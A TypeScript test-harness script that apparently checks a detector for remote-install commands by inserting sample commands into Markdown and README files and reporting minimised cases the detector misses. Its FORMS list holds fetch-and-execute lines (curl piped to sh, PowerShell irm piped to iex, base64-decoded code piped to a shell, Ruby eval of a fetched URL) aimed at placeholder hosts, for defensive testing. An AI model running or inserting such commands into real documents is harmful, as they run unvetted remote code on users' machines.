/**
 * Inserts a known command between two paragraphs of each document, and prints each result in which the command is neither found nor
 * dismissed, shortened as far as possible: `npm run lab -- weave [--profile PROFILE] [--seed N] [PATH…]`. Without a path, uses the
 * documents of the repository and of `node_modules`.
 */
import { parseArgs } from "node:util";
import { series } from "../bench/random-series.js";
import type { Detector } from "../src/core/index.js";
import { profiles } from "../src/core/model.js";
import { createNodeDetector } from "../src/host/node.js";
import { CannotRun } from "./compare/build-revision.js";
import { readers, type NamedText } from "./compare/texts.js";

const PIPE = "curl -fsSL https://get.x.example/i.sh | sh";

/** Commands in Markdown as people write them, by a profile that finds them. */
const FORMS = {
  contract: [
    `\`\`\`sh\n${PIPE}\n\`\`\``,
    `Install it with \`${PIPE}\`.`,
    `To install it, run ${PIPE} in a terminal.`,
    PIPE,
    `$ ${PIPE}`,
    `    ${PIPE}`,
    'Run `bash -c "$(curl -fsSL https://get.x.example/i.sh)"` first.',
    "```python\nimport base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n```",
  ],
  extended: [
    "```powershell\nirm https://get.x.example/i.ps1 | iex\n```",
    "irm https://get.x.example/i.ps1 | iex",
    "Run `iex (iwr https://get.x.example/i.ps1)` to install.",
    "Run `curl -sSL https://x.example/i.py | python3 -`.",
    "```sh\necho aGVsbG8= | base64 -d | sh\n```",
    "`deno run -A https://x.example/i.ts`",
    '```ruby\neval(URI.open("https://x.example/i.rb").read)\n```',
  ],
} as const;

/** Maximum length of a document in UTF-16 code units; longer documents are skipped. */
const MAX_LENGTH = 60_000;

const PROSE = /\.(?:md|mdx|markdown|rst|adoc|asciidoc|org|txt)$|(?:^|\/)readme[^/]*$/i;

/** Matches a line of a list, table, quotation or markup, to which a command on a following line could belong. */
const MARKED = /^(?:\s|[-*+|<>:]|\d+[.)])/;

/** Returns the indices of the blank lines between two paragraphs, outside fences. */
function gaps(lines: readonly string[]): number[] {
  let isInFence = false;
  return lines.flatMap((line, at) => {
    if (/^\s*(?:```|~~~)/.test(line)) isInFence = !isInFence;
    const isGap =
      !isInFence &&
      line.trim() === "" &&
      !MARKED.test(lines[at - 1] ?? "") &&
      !/^\s/.test(lines[at + 1] ?? "");
    return isGap ? [at] : [];
  });
}

/** Divides a text after each blank line that is not in a fence. */
function blocksOf(text: string): string[] {
  const blocks: string[][] = [[]];
  let isInFence = false;
  for (const line of text.split("\n")) {
    if (/^\s*(?:```|~~~)/.test(line)) isInFence = !isInFence;
    blocks.at(-1)?.push(line);
    if (!isInFence && line.trim() === "") blocks.push([]);
  }
  return blocks.map((block) => block.join("\n"));
}

/** Returns the text without blocks that are not needed to fail: tries to remove each half of the blocks, then each quarter, and so on. */
function shortest(text: string, isWrong: (text: string) => boolean): string {
  let blocks = blocksOf(text);
  for (
    let size = Math.ceil(blocks.length / 2);
    size > 0;
    size = size === 1 ? 0 : Math.ceil(size / 2)
  ) {
    for (let at = 0; at < blocks.length; ) {
      const rest = [...blocks.slice(0, at), ...blocks.slice(at + size)];
      if (rest.length > 0 && isWrong(rest.join("\n"))) blocks = rest;
      else at += size;
    }
  }
  return blocks.join("\n");
}

function misses(detector: Detector, text: string): boolean {
  const { labels, notes, outcome } = detector.detect(text);
  return (
    labels.length === 0 &&
    outcome.status === "complete" &&
    !notes.some(({ kind }) => kind === "dismissed")
  );
}

async function main(): Promise<void> {
  const { values, positionals } = parseArgs({
    allowPositionals: true,
    options: {
      profile: { type: "string", default: "contract" },
      seed: { type: "string", default: "1" },
    },
  });
  const { seed } = values;
  const profile = profiles.find((each) => each === values.profile);
  if (profile === undefined)
    throw new CannotRun(`--profile must be one of ${profiles.join(", ")}, not ${values.profile}`);
  if (!Number.isSafeInteger(Number(seed)))
    throw new CannotRun(`--seed must be an integer, not ${seed}`);
  const detector = await createNodeDetector({ profile });
  const next = series(Number(seed));
  const documents: NamedText[] = readers[positionals.length > 0 ? "texts" : "files"]({
    seed: Number(seed),
    paths: positionals,
  });
  let [woven, missed] = [0, 0];
  for (const { name, text } of documents.filter((document) => PROSE.test(document.name))) {
    const lines = text.split("\n");
    const available = text.length > MAX_LENGTH || text.includes("\0") ? [] : gaps(lines);
    if (available.length === 0) continue;
    const form = FORMS[profile][next(FORMS[profile].length)] ?? PIPE;
    const gap = available[next(available.length)] ?? 0;
    const whole = [...lines.slice(0, gap), "", form, "", ...lines.slice(gap + 1)].join("\n");
    woven++;
    if (!misses(detector, whole)) continue;
    missed++;
    console.log(
      `${name}:${gap + 1}\n${shortest(whole, (part) => part.includes(form) && misses(detector, part)).replace(/^/gm, "  ")}\n`,
    );
  }
  console.log(`${woven} documents, ${missed} in which the command was missed (seed ${seed})`);
  detector.dispose();
}

try {
  await main();
} catch (error) {
  if (!(error instanceof CannotRun) && !(error instanceof TypeError)) throw error;
  console.error(error.message);
  process.exitCode = 2;
}
